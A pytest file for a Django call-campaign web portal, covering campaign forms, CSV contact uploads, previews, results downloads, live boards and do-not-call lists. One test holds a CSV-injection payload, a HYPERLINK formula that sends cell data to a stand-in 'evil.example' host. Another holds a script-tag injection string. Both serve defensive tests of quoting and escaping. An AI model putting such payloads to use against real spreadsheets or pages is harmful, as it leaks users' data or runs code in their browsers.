"""The campaign pages: list, form, board with live updates, upload, preview, results."""

import csv as csv_module
import html
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.models.query import ValuesListIterable
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from calls.models import Call
from campaigns.models import Campaign, CampaignStatus, Contact, HeldBack, SuppressedNumber
from campaigns.selectors import board_cache_key
from campaigns.services import campaigns, scheduler, uploads
from campaigns.templatetags.campaign_tags import UNCERTAIN
from portal.services import Actor
from portal.templatetags.formats import moment
from tests.campaigns.conftest import CALLER, campaigns_calling
from tests.factories import (
    AttemptFactory,
    CallFactory,
    CampaignFactory,
    ContactFactory,
    ContactImportFactory,
    SuppressedNumberFactory,
    SuppressionListFactory,
)

pytestmark = pytest.mark.django_db


def test_the_list_explains_campaigns_when_there_are_none(client_for, viewer_user):
    page = client_for(viewer_user).get("/campaigns/")
    assert page.status_code == 200 and "No campaigns yet" in page.content.decode()
    assert "New campaign" not in page.content.decode()  # viewers watch only


def rows(prefix: str, *rows: dict) -> dict:
    """A formset's rows as the form posts them, with its management fields."""
    posted = {f"{prefix}-TOTAL_FORMS": str(len(rows)), f"{prefix}-INITIAL_FORMS": "0"}
    for index, row in enumerate(rows):
        posted.update({f"{prefix}-{index}-{name}": value for name, value in row.items()})
    return posted


def campaign_form(application, calls_per_second: str, windows: dict, retries: dict) -> dict:
    """The new-campaign form as an operator fills it in, with its rows of windows and retries."""
    return {
        "name": "Renewals",
        "application": application.pk,
        "from_numbers": CALLER,
        "calls_per_second": calls_per_second,
        "max_concurrent": "5",
        "default_timezone": "UTC",
        **windows,
        **retries,
    }


def test_a_campaigns_page_says_it_is_a_campaign_in_its_title_and_heading(client_for,
                                                                       viewer_user):
    campaign = CampaignFactory(name="Spring")

    page = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/").content.decode()

    assert "<title>Campaign Spring · Callboard</title>" in page
    assert "<h1>Campaign Spring</h1>" in page


def test_an_operator_creates_a_campaign_and_errors_name_the_field(
    client_for, operator_user, application
):
    client = client_for(operator_user)
    form = campaign_form(
        application,
        "50",
        rows("windows", {"days": ["0", "2"], "start": "09:00", "end": "17:00"}, {}),
        rows(
            "retries",
            {"outcome": "busy", "retries": "1", "delay_minutes": "5"},
            {"outcome": "", "retries": "", "delay_minutes": ""},
        ),
    )

    refused = client.post("/campaigns/new", form)
    assert refused.status_code == 200 and "the account&#x27;s limit" in refused.content.decode()

    made = client.post("/campaigns/new", {**form, "calls_per_second": "2"})
    campaign = Campaign.objects.get()
    assert made.status_code == 302 and made["Location"] == f"/campaigns/{campaign.pk}/"
    assert campaign.windows == [{"days": [0, 2], "start": "09:00", "end": "17:00"}]
    assert campaign.retry_rules == {"busy": {"retries": 1, "delay_minutes": 5}}


@pytest.mark.parametrize("zone", ["UTC", "Europe/Amsterdam"])
def test_the_start_and_end_say_which_clock_they_are_read_on(client_for, operator_user, settings,
                                                              zone):
    """Calling windows are in each contact's zone; a start typed as 09:00 was read on the
    server's clock, and the form did not say so, nor what the end does."""
    settings.TIME_ZONE = zone

    page = client_for(operator_user).get("/campaigns/new").content.decode()

    helps = {name: html.unescape(text) for name, text in re.findall(
        r'<p class="help" id="id_(starts_at|ends_at)_helptext">([^<]*)</p>', page)}
    assert helps["starts_at"] == (f"In {zone}, this server's time zone (calling windows are in "
                                  "each contact's own). Empty: when started.")
    assert helps["ends_at"] == (f"In {zone}. Contacts not yet called by then are skipped and the "
                                "campaign finishes. Empty: it runs until every contact is done.")


def test_window_and_retry_rows_name_the_field_in_error(client_for, operator_user, application):
    client = client_for(operator_user)
    form = campaign_form(
        application,
        "1",
        rows("windows", {"days": ["0"], "start": "17:00", "end": "09:00"}),
        rows(
            "retries",
            {"outcome": "busy", "retries": "11", "delay_minutes": "5"},
            {"outcome": "busy", "retries": "1", "delay_minutes": ""},
        ),
    )

    page = client.post("/campaigns/new", form).content.decode()

    assert 'id="id_windows-0-end_error">Until: The end must come after the start.' in page
    assert 'id="id_retries-0-retries_error">Extra tries: Ensure this value is less than' in page
    assert 'id="id_retries-1-outcome_error">Outcome: This outcome has a rule already.' in page
    assert not Campaign.objects.exists()
    without_windows = {k: v for k, v in form.items() if not k.startswith("windows")}
    empty = client.post("/campaigns/new", {**without_windows, **rows("windows", {})})
    assert "Give at least one calling window" in empty.content.decode()


def test_more_rows_than_a_campaign_may_have_are_refused_in_words(
    client_for, operator_user, application
):
    window = {"days": ["0"], "start": "09:00", "end": "17:00"}
    rule = {"outcome": "busy", "retries": "1", "delay_minutes": "5"}
    form = campaign_form(application, "1", rows("windows", window), rows("retries", rule))

    # More windows than the service takes, and a tampered count of rows (Django built 2,000).
    many = client_for(operator_user).post("/campaigns/new", {
        **form, **rows("windows", *[window] * 51), "retries-TOTAL_FORMS": "99999999"})

    page = many.content.decode()
    assert many.status_code == 200 and not Campaign.objects.exists()
    assert "Give at most 50 calling windows." in page
    assert "Give at most 8 retry rules, one an outcome." in page


def test_windows_past_the_most_are_refused_by_the_api_too(api_for, operator_user, application):
    window = {"days": [0], "start": "09:00", "end": "17:00"}
    body = {"name": "Many", "application": application.pk, "from_numbers": [CALLER],
            "calls_per_second": "1", "max_concurrent": 5, "windows": [window] * 51}

    refused = api_for(operator_user).post("/api/v1/campaigns", body, format="json")

    assert refused.status_code == 400, refused.json()
    assert refused.json()["fields"]["windows"] == ["Give at most 50 calling windows."]


def test_upload_preview_start_board_and_results(client_for, operator_user, application):
    client = client_for(operator_user)
    campaign = CampaignFactory(application=application)
    SuppressionListFactory().numbers.create(e164="+31201234568")
    csv = b"number,name\n+31201234567,Ann\n+31201234568,Bob\nnope,Cy\n"

    client.post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", csv, "text/csv")},
    )
    detail = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    assert "international format" in detail and 'hx-trigger="every' in detail

    preview = client.get(f"/campaigns/{campaign.pk}/preview").content.decode()
    assert "<strong>1</strong> contacts will be called" in preview and "Do-not-call" in preview
    rows = (
        b"".join(client.get(f"/campaigns/{campaign.pk}/preview?format=csv").streaming_content)
        .decode()
        .splitlines()
    )
    assert rows[0] == "row,number,timezones,verdict,problem" and len(rows) == 4

    client.post(f"/campaigns/{campaign.pk}/start")
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.RUNNING
    board = client.get(f"/campaigns/{campaign.pk}/board").content.decode()
    assert board.strip().startswith('<div id="board"') and "Running" in board

    results = (
        b"".join(client.get(f"/campaigns/{campaign.pk}/results.csv").streaming_content)
        .decode()
        .splitlines()
    )
    assert results[0].startswith("contact,row,number,state") and len(results) == 4


START_FORM = re.compile(r'<form method="post" action="/campaigns/(\d+)/start"')


def test_the_preview_leads_on_to_start_the_campaign_or_back(client_for, operator_user,
                                                            application):
    client = client_for(operator_user)
    campaign = CampaignFactory(application=application)
    ContactFactory(campaign=campaign)

    preview = client.get(f"/campaigns/{campaign.pk}/preview").content.decode()
    assert START_FORM.findall(preview) == [str(campaign.pk)] and "Start campaign" in preview
    # A snapshot: the board's figures after Start may differ, and the page says why.
    assert ("Counted as this page loaded: an upload, a do-not-call entry or a calling window "
            "closing can change them before Start, which says whom it started with; each "
            "contact is checked again when it is dialed.") in preview
    assert f'<a class="button" href="/campaigns/{campaign.pk}/">Back to the campaign</a>' in preview

    started = client.post(f"/campaigns/{campaign.pk}/start", follow=True)

    assert started.redirect_chain == [(f"/campaigns/{campaign.pk}/", 302)]
    assert "Campaign running: 1 contact to call, none skipped." in started.content.decode()


def test_start_says_whom_it_started_with_when_that_changed_since_the_preview(
    client_for, operator_user, application
):
    """The preview is counted as its page loads; Start counts again, under its lock, and
    says what it found, so a number put on a do-not-call list in between shows."""
    client = client_for(operator_user)
    campaign = CampaignFactory(application=application)
    ContactFactory(campaign=campaign, e164="+31201234501")
    ContactFactory(campaign=campaign, e164="+31201234502")
    preview = client.get(f"/campaigns/{campaign.pk}/preview").content.decode()
    assert "<strong>2</strong> contacts will be called" in preview
    SuppressedNumberFactory(e164="+31201234502")  # any account's list

    started = client.post(f"/campaigns/{campaign.pk}/start", follow=True)

    assert ("Campaign running: 1 contact to call, 1 skipped (1 do-not-call)."
            in started.content.decode())


@pytest.mark.parametrize(("status", "contacts", "retired", "why"), [
    ("draft", 0, False, "Nobody to call: it has no contacts; upload a CSV or add them through "
                        "the API first."),
    ("draft", 1, True, "is retired, so no campaign on it starts or resumes."),
    ("running", 1, False, "This campaign is running already: its page follows its calls."),
    ("paused", 1, False, "This campaign is paused: Resume it on its page."),
    ("stopped", 1, False, "This campaign is stopped: it calls no one again. Copy it to call "
                          "these contacts."),
])
def test_the_preview_says_why_a_campaign_cannot_start(client_for, operator_user, application,
                                                       status, contacts, retired, why):
    campaign = CampaignFactory(application=application, status=status)
    ContactFactory.create_batch(contacts, campaign=campaign)
    if retired:
        application.account.retired_at = timezone.now()
        application.account.save()

    preview = client_for(operator_user).get(f"/campaigns/{campaign.pk}/preview").content.decode()

    assert why in preview and not START_FORM.search(preview)
    assert "Back to the campaign" in preview


def test_an_ended_rehearsals_preview_points_to_its_campaign(client_for, operator_user):
    rehearsal = CampaignFactory(status="finished", rehearsal_of=CampaignFactory())

    preview = client_for(operator_user).get(f"/campaigns/{rehearsal.pk}/preview")

    assert "Rehearse on the sandbox again on its campaign." in preview.content.decode()


@pytest.mark.parametrize(("status", "says"), [("finished", "Finished"), ("stopped", "Stopped")])
def test_an_ended_campaigns_preview_says_what_was_done_not_who_will_be_called(
    client_for, viewer_user, status, says
):
    """It said "0 contacts will be called, 1 skipped", leaving out the contacts called."""
    campaign = CampaignFactory(status=status)
    for _ in range(2):
        ContactFactory(campaign=campaign, state="done", outcome="answered", attempts_made=1)
    ContactFactory(campaign=campaign, state="skipped", skip_reason="suppressed")

    preview = html.unescape(
        client_for(viewer_user).get(f"/campaigns/{campaign.pk}/preview").content.decode())

    assert re.sub(r"<[^>]+>", "", preview).count(f"{says}: 2 called, 1 skipped.") == 1
    assert "will be called" not in preview and "before Start" not in preview
    assert "Do-not-call" in preview  # why the skipped were skipped


def test_a_viewer_is_told_an_operator_starts_it(client_for, viewer_user, application):
    campaign = CampaignFactory(application=application)
    ContactFactory(campaign=campaign)

    preview = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/preview").content.decode()

    assert "An operator can start it." in preview and not START_FORM.search(preview)
    assert "Back to the campaign" in preview


# A file saved as UTF-16 without its mark reads as UTF-8 with a NUL after every letter, and
# PostgreSQL cannot store a NUL; a value past 131,072 characters stops Python's csv reader.
@pytest.mark.parametrize(("csv", "message"), [
    (b"number\n+31201234567\n+3120\x001234568\n",
     "Line 3 holds a NUL character: save the file as UTF-8 CSV again."),
    (b'number,note\n+31201234567,"' + b"x" * 140_000 + b'"\n',
     "Line 2: field larger than field limit (131072)."),
])
def test_an_upload_that_cannot_be_read_is_refused_naming_its_line(
    client_for, operator_user, csv, message
):
    campaign = CampaignFactory()

    response = client_for(operator_user).post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", csv, "text/csv")},
        follow=True,
    )

    assert response.status_code == 200
    assert message in [str(shown) for shown in response.context["messages"]]
    assert not campaign.contacts.exists() and not campaign.imports.exists()


def test_a_file_past_the_upload_limit_is_refused_before_it_is_read(
    client_for, operator_user, monkeypatch
):
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 2**20)
    campaign = CampaignFactory()
    csv = b"number\n" + b"+12125551234\n" * 90_000  # 1.2 MB

    response = client_for(operator_user).post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", csv, "text/csv")},
        follow=True,
    )

    assert "The file is over 1 MB: split it and upload each part." in [
        str(shown) for shown in response.context["messages"]
    ]
    assert not campaign.imports.exists()


def test_a_do_not_call_upload_with_a_nul_is_refused_naming_its_line(client_for, operator_user):
    listed = SuppressionListFactory()

    response = client_for(operator_user).post(
        f"/campaigns/do-not-call/{listed.pk}/",
        {"file": SimpleUploadedFile("dnc.csv", b"number\n+3120\x001234568\n", "text/csv")},
    )

    assert response.status_code == 200
    assert "Line 2 holds a NUL character" in response.content.decode()
    assert not listed.numbers.exists()


def test_a_do_not_call_upload_says_which_country_its_national_numbers_are_in(
    client_for, operator_user
):
    listed = SuppressionListFactory()
    client = client_for(operator_user)
    page = client.get(f"/campaigns/do-not-call/{listed.pk}/").content.decode()
    assert "Numbers without a country code are in" in page
    assert '<option value="NL">Netherlands (+31)</option>' in page

    detail = client.post(
        f"/campaigns/do-not-call/{listed.pk}/",
        {"file": SimpleUploadedFile("dnc.csv", b"number\n06 12345678\n0612345\n"),
         "country": "NL"},
        follow=True,
    ).content.decode()

    assert "1 number added." in detail and "+31 6 12345678" in detail
    assert "0612345 is not a valid Netherlands number" in detail


def test_the_preview_and_results_files_quote_a_typed_formula(client_for, operator_user):
    # A contact's number as typed in the uploaded file is shown when it is not a number; a
    # spreadsheet opening the download must show it, never run it (OWASP's CSV injection).
    client = client_for(operator_user)
    campaign = CampaignFactory()
    typed = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    csv = f'number\n+31201234567\n"{typed.replace(chr(34), chr(34) * 2)}"\n'.encode()
    client.post(f"/campaigns/{campaign.pk}/contacts",
                {"file": SimpleUploadedFile("list.csv", csv, "text/csv")})

    def download(path: str) -> list[dict]:
        body = b"".join(client.get(path).streaming_content).decode()
        return list(csv_module.DictReader(io.StringIO(body)))

    preview = download(f"/campaigns/{campaign.pk}/preview?format=csv")
    results = download(f"/campaigns/{campaign.pk}/results.csv")

    assert [row["number"] for row in preview] == ["+31201234567", "'" + typed]
    assert [row["number"] for row in results] == ["+31201234567", "'" + typed]


def test_the_results_file_says_why_a_contact_was_refused_in_the_previews_words(
    client_for, operator_user
):
    """`skip_reason` said only "invalid"; the preview's `problem` said what was wrong."""
    client = client_for(operator_user)
    campaign = CampaignFactory()
    client.post(f"/campaigns/{campaign.pk}/contacts",
                {"file": SimpleUploadedFile("list.csv", b"number\n+31201234567\n12345\n")})

    def download(path: str) -> list[dict]:
        body = b"".join(client.get(path).streaming_content).decode()
        return list(csv_module.DictReader(io.StringIO(body)))

    preview = download(f"/campaigns/{campaign.pk}/preview?format=csv")
    results = download(f"/campaigns/{campaign.pk}/results.csv")

    assert [row["problem"] for row in results] == [row["problem"] for row in preview] == [
        "", "12345 has no country code: write it in international format, e.g. "
            "+31 20 123 4567, or set the campaign's default country."]
    assert results[1]["skip_reason"] == "invalid"


def test_the_results_file_has_the_uploaded_columns_after_its_own(client_for, viewer_user,
                                                                  with_columns):
    """Operators match results to their list by its columns, not by row number: each upload's
    extra columns in upload order, empty where a contact has none, a formula quoted."""
    body = b"".join(client_for(viewer_user).get(
        f"/campaigns/{with_columns.pk}/results.csv").streaming_content).decode()
    header, *rows = csv_module.reader(io.StringIO(body))

    assert header[-6:] == ["last_attempt_at", "first_name", "plan", "region", "custom.state",
                           "vip"]
    assert [row[2:3] + row[-5:] for row in rows] == [
        ["+31201234567", "Ann", "'=1+2", "", "", ""],
        ["+31201234568", "Bob", "Gold", "", "", ""],
        ["+31201234569", "Cy", "", "North", "'@x", ""],
        ["+31201234570", "", "", "", "", "yes"],
    ]


def test_after_an_upload_the_page_shows_the_contacts_it_says_were_added(
    client_for, operator_user
):
    # The board is read once a second per campaign; the page read just before the upload (as
    # its own polls do) showed "No contacts yet" under "2 contacts added" for that second.
    client = client_for(operator_user)
    campaign = CampaignFactory()
    assert "No contacts yet" in client.get(f"/campaigns/{campaign.pk}/").content.decode()

    page = client.post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", b"number\n+31201234567\n+12125551234\n")},
        follow=True,
    ).content.decode()

    assert "2 contacts added" in page and 'data-field="contacts">2 contacts<' in page
    assert "No contacts yet" not in page and "+31 20 123 4567" in page


def test_viewers_cannot_start_a_campaign(client_for, viewer_user):
    campaign = CampaignFactory()
    ContactFactory(campaign=campaign)
    assert client_for(viewer_user).post(f"/campaigns/{campaign.pk}/start").status_code == 403


def test_results_of_a_campaign_without_contacts_still_name_their_columns(client_for, viewer_user):
    campaign = CampaignFactory()

    response = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/results.csv")

    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines == [
        "contact,row,number,state,skip_reason,problem,disposition,attempts,last_call,"
        "last_attempt_at"
    ]


def test_the_contacts_history_costs_the_same_queries_for_a_page_of_many(client_for, viewer_user):
    def queries_for(contacts: int) -> list[int]:
        campaign = CampaignFactory()
        for contact in ContactFactory.create_batch(contacts, campaign=campaign):
            AttemptFactory(contact=contact, number=1)
            AttemptFactory(contact=contact, number=2)
        client = client_for(viewer_user)
        counts = []
        for url in (f"/campaigns/{campaign.pk}/", f"/api/v1/campaigns/{campaign.pk}/results"):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(url).status_code == 200
            counts.append(len(queries))
        return counts

    queries_for(1)  # the first requests fill the process's caches (site settings, roles)
    assert queries_for(2) == queries_for(20)


def test_finished_counts_the_contacts_to_call_and_names_the_skipped_apart(
    client_for, viewer_user
):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    for state in ("done", "done", "retry", "skipped"):
        ContactFactory(campaign=campaign, state=state)

    board = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/board").content.decode()

    assert "67% finished" in board
    assert "of the 3 contacts to call; 1 skipped, never called, and not counted" in board


@pytest.mark.parametrize(
    ("reason", "sentence"),
    [
        (HeldBack.CAP, "Held back by its concurrency cap: at most 20 calls in progress at "
                       "once."),
        (HeldBack.ACCOUNT_QUEUE, "Held back by its account: 2 calls waiting to be sent."),
        (HeldBack.FEW_DUE, "Fewer contacts are due than its pace allows: the others are being "
                           "called or wait for a retry or for their calling window."),
    ],
)
def test_the_board_says_what_holds_a_running_campaign_back(
    client_for, viewer_user, reason, sentence
):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING, held_back=reason, max_concurrent=20)
    CallFactory.create_batch(2, account=campaign.account)  # waiting to be sent
    client = client_for(viewer_user)

    assert sentence in client.get(f"/campaigns/{campaign.pk}/").content.decode()
    assert sentence in client.get(f"/campaigns/{campaign.pk}/board").content.decode()


@pytest.mark.parametrize("status", [CampaignStatus.PAUSED, CampaignStatus.FINISHED])
def test_the_board_says_nothing_held_back_unless_running(client_for, viewer_user, status):
    campaign = CampaignFactory(status=status, held_back=HeldBack.CAP)
    board = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/board").content.decode()
    assert 'data-field="held-back"' not in board


def test_the_contacts_table_updates_live_on_its_page(client_for, viewer_user):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    contacts = ContactFactory.create_batch(51, campaign=campaign)
    client = client_for(viewer_user)
    second = client.get(f"/campaigns/{campaign.pk}/?page=2").content.decode()
    assert f'hx-get="/campaigns/{campaign.pk}/contact-table?page=2"' in second

    contacts[50].state, contacts[50].outcome = "done", "busy"
    contacts[50].save()
    table = client.get(f"/campaigns/{campaign.pk}/contact-table?page=2").content.decode()

    assert table.strip().startswith('<div id="contacts"')
    assert "Busy" in table and table.count("<tr>") == 2  # the header and the 51st contact


def test_the_contacts_table_shows_each_contact_and_attempt_as_people_read_them(
    client_for, viewer_user
):
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    called = ContactFactory(
        campaign=campaign, row=2, raw_number="0201234567", e164="+31201234567",
        timezones=["America/New_York", "America/Chicago"], timezone_ambiguous=True,
        state="retry", outcome="busy",
    )
    call = CallFactory()
    AttemptFactory(contact=called, number=1, call=call, outcome="busy")
    AttemptFactory(contact=called, number=2, outcome="not_placed")
    ContactFactory(
        campaign=campaign, row=None, raw_number="<b>nope</b>", e164="", timezones=[],
        state="skipped", skip_reason="invalid", problem="<script>bad</script>",
    )

    table = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/contact-table")
    text = re.sub(r">\s+<", "><", table.content.decode())  # the layout's line breaks aside

    assert (
        '<tr><td data-label="Row">2</td><td data-label="Number" class="nowrap">+31 20 123 4567</td>'
        f'<td data-label="Time zone">America/New_York, America/Chicago{UNCERTAIN}</td>'
        f'<td class="prose" data-label="State" data-field="state-{called.pk}">Waiting for a retry'
        f'</td><td data-label="Outcome" data-field="outcome-{called.pk}">Busy</td>'
        f'<td data-label="Attempts"><a href="/calls/{call.pk}/">#1</a> Busy, #2 Not placed'
        '</td></tr>'
    ) in text
    assert ('<td data-label="Row">API</td><td data-label="Number">&lt;b&gt;nope&lt;/b&gt;</td>'
            in text)
    assert "Skipped: Invalid number<br><span" in text
    assert "&lt;script&gt;bad&lt;/script&gt;" in text and "<script>bad" not in text


def test_a_contacts_uncertain_time_zone_says_what_it_means(client_for, viewer_user):
    """"(uncertain)" alone left an operator guessing why a +44 number showed Amsterdam."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    ContactFactory(campaign=campaign, timezones=["Europe/Amsterdam"], timezone_ambiguous=True)

    table = client_for(viewer_user).get(f"/campaigns/{campaign.pk}/contact-table")

    assert re.search(r'<abbr title="[^"]*default time zone[^"]*every zone listed[^"]*">'
                     r"uncertain</abbr>", table.content.decode())


def test_a_campaign_call_page_leads_back_to_its_campaign_and_contact(client_for, viewer_user):
    """Opened from a campaign's contacts, the call page said nothing of the campaign."""
    campaign = CampaignFactory(name="Renewals")
    call = CallFactory(account=campaign.account)
    AttemptFactory(contact=ContactFactory(campaign=campaign, row=9), number=2, call=call)
    from_the_api = CallFactory(account=campaign.account)
    AttemptFactory(contact=ContactFactory(campaign=campaign, row=None), call=from_the_api)
    alone = CallFactory(account=campaign.account)
    client = client_for(viewer_user)

    text = re.sub(r"\s+", " ", client.get(f"/calls/{call.pk}/").content.decode())
    api_text = re.sub(r"\s+", " ", client.get(f"/calls/{from_the_api.pk}/").content.decode())

    assert (f'<dt>Campaign</dt><dd><a href="/campaigns/{campaign.pk}/">Renewals</a> '
            '<span class="muted">(the contact on row 9, attempt 2)</span></dd>') in text
    assert "(a contact added through the API, attempt 1)" in api_text
    assert "<dt>Campaign</dt>" not in client.get(f"/calls/{alone.pk}/").content.decode()


def test_the_contacts_table_pages_by_the_boards_count_without_counting_again(
    client_for, viewer_user
):
    """At 100,000 contacts a COUNT for every viewer's poll of the table cost the server more
    than the board's whole reading, which already has the count."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    ContactFactory.create_batch(51, campaign=campaign)
    client = client_for(viewer_user)
    client.get(f"/campaigns/{campaign.pk}/board")  # the board's reading, shared for a second

    with CaptureQueriesContext(connection) as queries:
        table = client.get(f"/campaigns/{campaign.pk}/contact-table?page=2").content.decode()

    assert "Page 2 of 2" in table and table.count("<tr>") == 2
    counts = [q["sql"] for q in queries if 'COUNT(*) AS "__count" FROM "campaigns_contact"'
              in q["sql"]]
    assert counts == []


def test_while_one_request_reads_the_board_the_others_get_the_previous_reading(
    client_for, viewer_user
):
    """At 100,000 contacts a reading outlasted the second it stays fresh on a loaded server,
    and every poll that found it expired read it again, until the server saturated."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    ContactFactory.create_batch(2, campaign=campaign)
    client = client_for(viewer_user)
    client.get(f"/campaigns/{campaign.pk}/board")
    ContactFactory(campaign=campaign)
    key = board_cache_key(campaign)
    cache.delete(key)  # the second is over
    cache.add(f"{key}:reading", 1)  # another viewer's poll is reading it

    with CaptureQueriesContext(connection) as queries:
        board = client.get(f"/campaigns/{campaign.pk}/board").content.decode()

    assert "2 contacts" in board
    assert not [q for q in queries if 'FROM "campaigns_contact" ' in q["sql"]]
    cache.delete(f"{key}:reading")  # that reading is done
    assert "3 contacts" in client.get(f"/campaigns/{campaign.pk}/board").content.decode()


def test_rows_left_empty_are_no_rules(client_for, operator_user, application):
    form = {
        "name": "Survey",
        "application": application.pk,
        "from_numbers": CALLER,
        "calls_per_second": "1",
        "max_concurrent": "5",
        "default_timezone": "UTC",
        **rows("windows", {"days": ["5", "6"], "start": "10:00", "end": "12:30"}, {}),
        **rows("retries", {"outcome": ""}, {"outcome": ""}, {}),
    }

    made = client_for(operator_user).post("/campaigns/new", form)

    assert made.status_code == 302
    campaign = Campaign.objects.get()
    assert campaign.retry_rules == {}
    assert campaign.windows == [{"days": [5, 6], "start": "10:00", "end": "12:30"}]


def test_a_do_not_call_list_name_taken_is_refused_on_the_form(client_for, operator_user):
    SuppressionListFactory(name="Opted out")
    client = client_for(operator_user)

    refused = client.post("/campaigns/do-not-call/", {"name": "Opted out"})
    made = client.post("/campaigns/do-not-call/", {"name": "Complaints"})

    assert refused.status_code == 200
    assert refused.context["form"].errors == {
        "name": ["A do-not-call list named Opted out exists already."]
    }
    assert made.status_code == 302


@pytest.mark.parametrize("part", ["board", "contact-table"])
def test_an_expired_session_sends_the_campaign_page_to_the_login_page(client, part):
    """Not the login form swapped into the board: htmx follows HX-Redirect."""
    campaign = CampaignFactory(status=CampaignStatus.RUNNING)
    response = client.get(f"/campaigns/{campaign.pk}/{part}")
    assert response.status_code == 204 and response["HX-Redirect"] == "/login/"


def test_a_campaigns_country_is_chosen_by_name_and_its_national_numbers_listed_as_international(
    client_for, operator_user, application
):
    client = client_for(operator_user)
    form = campaign_form(application, "1", rows("windows", {"days": ["0"], "start": "09:00",
                                                             "end": "17:00"}), rows("retries"))
    page = client.get("/campaigns/new").content.decode()
    assert '<option value="" selected>None — numbers must be in international format</option>' in (
        page)
    assert '<option value="NL">Netherlands (+31)</option>' in page

    refused = client.post("/campaigns/new", {**form, "default_country": "QQ"})
    assert 'id="id_default_country_error">' in refused.content.decode()
    client.post("/campaigns/new", {**form, "default_country": "NL"})
    campaign = Campaign.objects.get()
    assert campaign.default_country == "NL"

    detail = client.post(
        f"/campaigns/{campaign.pk}/contacts",
        {"file": SimpleUploadedFile("list.csv", b"number,name\n06 12345678,Ann\n0612345,Bo\n")},
        follow=True,
    ).content.decode()

    assert "read as Netherlands (+31) numbers" in detail
    assert "1 contact added, 1 row refused" in detail and "+31 6 12345678" in detail
    assert "0612345 is not a valid Netherlands number" in detail


# Copy and delete --------------------------------------------------------------------------------

def test_an_operator_copies_a_campaign_and_lands_on_the_copy(
    client_for, operator_user, application
):
    client = client_for(operator_user)
    original = CampaignFactory(application=application, name="Renewals",
                               status=CampaignStatus.FINISHED)
    ContactFactory.create_batch(2, campaign=original)
    page = client.get(f"/campaigns/{original.pk}/").content.decode()
    assert f'action="/campaigns/{original.pk}/copy"' in page and "with its contacts" in page

    bare = client.post(f"/campaigns/{original.pk}/copy", follow=True)
    copy = Campaign.objects.get(name="Copy of Renewals")
    assert bare.redirect_chain == [(f"/campaigns/{copy.pk}/", 302)]
    shown = bare.content.decode()
    assert "<h1>Campaign Copy of Renewals</h1>" in shown and "Draft" in shown
    assert "Copied “Renewals” as this draft. Check its settings, then start it." in shown
    assert not copy.contacts.exists()

    with_contacts = client.post(f"/campaigns/{original.pk}/copy", {"with_contacts": "on"},
                                follow=True)
    assert "Copied “Renewals” as this draft with its 2 contacts." in with_contacts.content.decode()
    assert Campaign.objects.filter(name="Copy of Renewals").count() == 2
    assert Campaign.objects.latest("id").contacts.count() == 2


def test_a_copy_that_cannot_be_made_says_why_on_the_campaigns_page(
    client_for, operator_user, application
):
    original = CampaignFactory(application=application, status=CampaignStatus.FINISHED,
                               from_numbers=["+31201111111"])  # no longer the account's

    response = client_for(operator_user).post(f"/campaigns/{original.pk}/copy", follow=True)

    assert response.redirect_chain == [(f"/campaigns/{original.pk}/", 302)]
    assert "No copy was made: " in response.content.decode()
    assert Campaign.objects.count() == 1


def test_delete_is_offered_with_what_it_loses_only_when_the_campaign_cannot_dial(
    client_for, operator_user, viewer_user, application
):
    draft = CampaignFactory(application=application, name="Renewals")
    ContactFactory(campaign=draft)
    running = CampaignFactory(application=application, status=CampaignStatus.RUNNING)
    client = client_for(operator_user)

    page = client.get(f"/campaigns/{draft.pk}/").content.decode()
    assert f'action="/campaigns/{draft.pk}/delete"' in page
    assert ('data-confirm="Delete Renewals for good? Its 1 contact, their attempts and results '
            'go with it; the calls stay in the call log."') in page
    assert ">Delete…</button>" in page
    assert "/delete" not in client.get(f"/campaigns/{running.pk}/").content.decode()
    watched = client_for(viewer_user).get(f"/campaigns/{draft.pk}/").content.decode()
    assert "/delete" not in watched and "/copy" not in watched


def test_a_rehearsal_offers_delete_but_not_copy(client_for, operator_user, application):
    campaign = CampaignFactory(application=application)
    rehearsal = CampaignFactory(application=application, rehearsal_of=campaign,
                                status=CampaignStatus.RUNNING)
    client = client_for(operator_user)

    page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    assert "/delete" not in page  # its rehearsal runs
    running = client.get(f"/campaigns/{rehearsal.pk}/").content.decode()
    assert "/copy" not in running and "/delete" not in running
    Campaign.objects.filter(pk=rehearsal.pk).update(status=CampaignStatus.STOPPED)
    page = client.get(f"/campaigns/{campaign.pk}/").content.decode()
    assert "and its 1 rehearsal go with it" in page
    assert f"/campaigns/{rehearsal.pk}/delete" in client.get(
        f"/campaigns/{rehearsal.pk}/").content.decode()


def test_an_ended_rehearsal_points_to_rehearsing_again_not_to_a_copy_it_lacks(
    client_for, operator_user, application
):
    campaign = CampaignFactory(application=application, name="Renewals")
    rehearsal = CampaignFactory(application=application, rehearsal_of=campaign,
                                status=CampaignStatus.STOPPED)

    page = client_for(operator_user).get(f"/campaigns/{rehearsal.pk}/").content.decode()

    assert "copy it (above)" not in page and "/copy" not in page
    assert "This rehearsal is stopped and calls no one again" in page
    assert f'Rehearse on the sandbox on <a href="/campaigns/{campaign.pk}/">Renewals</a>' in page


